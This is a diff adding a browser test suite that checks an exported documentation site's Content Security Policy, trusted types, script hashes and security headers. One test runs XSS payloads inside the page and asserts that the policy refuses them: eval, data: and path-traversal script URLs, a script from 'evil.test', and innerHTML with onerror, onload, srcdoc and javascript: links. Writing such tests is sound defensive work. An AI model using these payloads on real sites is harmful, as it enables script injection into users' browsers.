@@ -1,0 +1,148 @@
+import { exportFolder, listFiles, listPages, readExported } from './exported-site';
+import { openHydrated } from './hydration';
+import { site, workbench } from './places';
+import { expect, test } from './reader';
+import { refused, watchPolicy } from './watch-policy';
+
+const pages = listPages();
+const htmlFiles = listFiles().filter((file) => file.endsWith('.html'));
+
+test('every page holds its policy before anything else, and tells its encoding in time', () => {
+  expect(htmlFiles.length).toBeGreaterThan(pages.length);
+  for (const file of htmlFiles) {
+    const html = readExported(file).toString();
+    expect(html, file).toMatch(
+      /<head>\s*<meta http-equiv="Content-Security-Policy" content="default-src 'self';/,
+    );
+    const [policy = ''] = /content="default-src[^"]*/.exec(html) ?? [];
+    expect(policy, file).not.toMatch(/unsafe|\*/);
+    expect(policy, file).toContain("require-trusted-types-for 'script'");
+    const encoding = Buffer.byteLength(html.slice(0, html.search(/<meta charset="utf-8"\s*\/?>/i) + 24));
+    expect(encoding, `where ${file} tells its encoding`).toBeLessThanOrEqual(1024);
+  }
+});
+
+test('no page holds an inline style, a style block, a handler or the address of a script', () => {
+  for (const file of htmlFiles) {
+    const tags = readExported(file)
+      .toString()
+      .replaceAll(/(<script[^>]*>)[\s\S]*?<\/script>/g, '$1')
+      .match(/<[a-z][^>]*>/gi);
+    const bad = tags?.filter((tag) => /^<style|\s(style|on[a-z]+)=|(href|src)="?javascript:/i.test(tag));
+    expect(bad, file).toEqual([]);
+  }
+});
+
+test('inline scripts are the same on all pages: few hashes admit them', () => {
+  const hashes = new Set(
+    htmlFiles.flatMap(
+      (file) =>
+        readExported(file)
+          .toString()
+          .match(/'sha256-[^']+'/g) ?? [],
+    ),
+  );
+  expect(hashes.size).toBeLessThanOrEqual(8);
+  const rules = readExported('_headers').toString();
+  for (const hash of hashes) expect(rules).toContain(hash);
+});
+
+for (const address of ['/', '/search?q=stream', '/no/such/page', '/reference/errors?data=0xdeadbeef']) {
+  test.describe(`${address}`, () => {
+    test.use({ expectedNoise: [/status of 404/] });
+
+    // every-page.spec.ts does the same with each page of the site.
+    test('breaks nothing of its policy and asks no other host, while it comes to life and is read to its end', async ({
+      page,
+    }) => {
+      const strangers = await watchPolicy(page);
+      await openHydrated(page, address);
+      await page.evaluate(() => window.scrollTo({ top: document.body.scrollHeight, behavior: 'instant' }));
+      expect(await refused(page)).toEqual([]);
+      expect(strangers).toEqual([]);
+    });
+  });
+}
+
+test('nothing is refused on the way from page to page, in the search and with everything that can be used', async ({
+  page,
+}) => {
+  await watchPolicy(page);
+  await openHydrated(page, `${workbench}/code`);
+  await page.getByRole('tab', { name: 'pnpm' }).first().click();
+  await page.getByRole('button', { name: 'Switch between dark and light theme' }).click();
+  await page.getByRole('link', { name: 'link to the other page' }).click();
+  await expect(page.getByRole('heading', { level: 1 })).toHaveText('Features');
+  await page.keyboard.press('Control+k');
+  await expect(page.getByRole('dialog')).toBeVisible();
+  await page.keyboard.type('tabs');
+  await expect(page.getByRole('dialog').getByRole('option').first()).toBeVisible();
+  await page.keyboard.press('Enter');
+  await expect(page.getByRole('dialog')).toHaveCount(0);
+  expect(await refused(page)).toEqual([]);
+});
+
+test.describe('what an attacker would try', () => {
+  test.use({
+    expectedNoise: [
+      /Content Security Policy|TrustedScript|Trusted Type|ERR_BLOCKED_BY_CSP|csp|Refused|violates/i,
+    ],
+  });
+
+  test('is refused', async ({ page }) => {
+    await watchPolicy(page);
+    await openHydrated(page, '/concepts/streaming');
+    const results = await page.evaluate(async () => {
+      const state = window as unknown as { isHacked?: boolean };
+      const attempt = (act: () => unknown) => {
+        try {
+          act();
+        } catch {
+          // Refused.
+        }
+      };
+      const scriptFrom = (src: string) => {
+        const script = document.createElement('script');
+        script.src = src;
+        document.head.append(script);
+      };
+      // biome-ignore lint/security/noGlobalEval: this is the attack.
+      attempt(() => window.eval('window.isHacked = true'));
+      attempt(() => new Function('window.isHacked = true')());
+      attempt(() => setTimeout('window.isHacked = true', 0));
+      attempt(() => scriptFrom('https://evil.test/a.js'));
+      attempt(() => scriptFrom('/concepts/streaming.txt'));
+      attempt(() => scriptFrom('/_next/static/../../samples/a.js'));
+      attempt(() => scriptFrom('data:text/javascript,window.isHacked=true'));
+      attempt(() => {
+        document.createElement('script').textContent = 'window.isHacked = true';
+      });
+      attempt(() => new Worker('data:text/javascript,postMessage(1)'));
+      attempt(() => {
+        const box = document.createElement('div');
+        box.innerHTML =
+          '<img src="x" onerror="window.isHacked=true"><svg onload="window.isHacked=true"></svg><iframe srcdoc="<script>parent.isHacked=true</script>"></iframe><a href="javascript:window.isHacked=true">a</a>';
+        document.body.append(box);
+        box.querySelector('a')?.click();
+      });
+      await new Promise((resolve) => setTimeout(resolve, 500));
+      return { isHacked: state.isHacked, foreign: document.querySelectorAll('script[src*="evil"]').length };
+    });
+    expect(results).toEqual({ isHacked: undefined, foreign: 0 });
+    expect((await refused(page)).length).toBeGreaterThanOrEqual(8);
+  });
+});
+
+test('the server sends what hosts are told to send', async ({ request }) => {
+  for (const address of ['/', '/concepts/streaming', '/no/such/page']) {
+    const headers = (await request.get(`${site}${address}`)).headers();
+    expect(headers['content-security-policy']).toContain("frame-ancestors 'none'");
+    expect(headers['cross-origin-opener-policy']).toBe('same-origin');
+    expect(headers['referrer-policy']).toBe('strict-origin-when-cross-origin');
+    expect(headers['permissions-policy']).toContain('camera=()');
+    expect(headers['strict-transport-security']).toMatch(/^max-age=\d{8}/);
+    expect(headers['x-content-type-options']).toBe('nosniff');
+  }
+  for (const file of ['_headers', 'vercel.json', 'headers.nginx.conf'])
+    expect(readExported(file).toString(), `${exportFolder}/${file}`).toContain("frame-ancestors 'none'");
+});
